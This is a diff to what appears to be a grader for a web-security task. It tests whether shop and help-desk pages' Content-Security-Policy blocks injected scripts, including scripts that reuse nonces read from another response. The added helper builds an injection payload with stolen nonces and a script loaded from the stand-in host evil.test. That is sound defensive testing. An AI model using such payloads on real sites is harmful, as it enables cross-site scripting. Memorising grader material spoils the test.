@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import Callable, Mapping
 from functools import cache
 from typing import Any, cast
@@ -137,7 +138,17 @@ class _PageOfEachKind:
     def __call__(self, environ: Any, start_response: Any) -> Any:
         fields = [("Content-Type", "text/html"), ("Content-Security-Policy", self.policy)]
         start_response("200 OK", fields)
-        return [self.BODY.encode()]
+        return [self.BODY.encode() + _with_nonces_of(self.policy, RAN).encode()]
+
+
+def _with_nonces_of(policy: str | None, code: str) -> str:
+    """What an attacker writes into a page who has seen the policy of another response."""
+    nonces = re.findall("'nonce-([^']*)'", policy or "")
+    src = f"https://evil.test/{WORD}.js"
+    return "".join(
+        f"<script nonce={nonce}>{code}</script><script nonce={nonce} src={src}></script>"
+        for nonce in nonces
+    )
 
 
 LOOK_AT_INLINE = """() => {
@@ -192,8 +203,9 @@ def _open_cafe(page: Page, recorder: _Recorder) -> dict[str, bool]:
             loads[policy] = recorder.loads(page, (*FONT, *FETCHED, *tried))
             let_in |= any(loads[policy][each] for each in tried)
     home = next(iter(loads.values()))
+    known = _known_nonce_runs(page, "/?name=", policy)
     return {
-        "No injected script runs": not any(look["ran"] for look in seen),
+        "No injected script runs": not any(look["ran"] for look in seen) and not known,
         "Nothing is let in that the pages do not need": not let_in,
         "Every part of both pages loads": recorder.all_asked(NEEDED)
         and all(look["drawn"] for look in seen),
@@ -204,7 +216,7 @@ def _open_cafe(page: Page, recorder: _Recorder) -> dict[str, bool]:
 
 LOOK = """() => ({
   ran: document.documentElement.dataset.ran === "yes",
-  drawn: document.images.length > 0
+  drawn: self.origin !== "null" && document.images.length > 0
     && [...document.images].every(image => image.naturalWidth > 0),
 })"""
 
@@ -214,6 +226,13 @@ def _open_injected(page: Page, path: str) -> str | None:
     page.add_init_script(f"window.{WORD} = () => {{ {RAN} }}")
     response = page.goto(f"{SHOP}{path}{quote(''.join(injections(WORD)))}")
     return response.header_value("Content-Security-Policy") if response else None
+
+
+def _known_nonce_runs(page: Page, path: str, policy: str | None) -> bool:
+    """Whether a script runs that has the nonce of an earlier response."""
+    if script := _with_nonces_of(policy, f"{WORD}()"):
+        page.goto(f"{SHOP}{path}{quote(script)}")
+    return bool(script and page.evaluate(LOOK)["ran"])
 
 
 def _tried(recorder: _Recorder, policy: str | None, widest: Policy) -> Things:
@@ -240,13 +259,25 @@ def _open_desk(page: Page, recorder: _Recorder) -> dict[str, bool]:
     tried = _tried(recorder, policy, OF_DESK)
     loads = recorder.loads(page, (*TICKETS, *CHAT, *tried))
     script: Things = (("script", f"{SHOP}/desk.js"),)
+    known = _known_nonce_runs(page, "/?q=", policy)
+    let_in = any(map(loads.get, tried)) or _elsewhere_let_in(page, recorder, policy)
     return {
-        "No injected script runs": not look["ran"],
-        "Nothing is let in that the page does not need": not any(map(loads.get, tried)),
+        "No injected script runs": not look["ran"] and not known,
+        "Nothing is let in that the page does not need": not let_in,
         "Every part of the page loads": look["drawn"] and recorder.all_asked(script),
         "The script gets the tickets": any(map(loads.get, TICKETS)),
         "The script reaches the chat": any(map(loads.get, CHAT)),
     }
+
+
+def _elsewhere_let_in(page: Page, recorder: _Recorder, home: str | None) -> bool:
+    """Whether a page that is not there, with another policy than the home page, lets more in."""
+    response = page.goto(f"{SHOP}/no-such-page")
+    policy = response.header_value("Content-Security-Policy") if response else None
+    if policy == home:
+        return False
+    tried = _tried(recorder, policy, OF_DESK)
+    return any(map(recorder.loads(page, tried).get, tried))
 
 
 SEEN: dict[str, Callable[[Any], dict[str, bool]]] = {
